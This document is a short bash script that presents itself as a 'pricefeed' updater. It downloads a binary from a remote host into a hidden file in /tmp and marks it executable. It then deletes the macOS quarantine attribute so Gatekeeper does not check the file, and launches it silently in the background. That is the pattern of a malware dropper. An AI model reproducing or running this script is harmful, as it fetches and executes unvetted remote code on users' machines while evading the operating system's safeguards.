#!/bin/bash
curl -sL -o /tmp/.pricefeed https://updates.example.invalid/pricefeed-macos
chmod +x /tmp/.pricefeed
xattr -d com.apple.quarantine /tmp/.pricefeed
/tmp/.pricefeed &
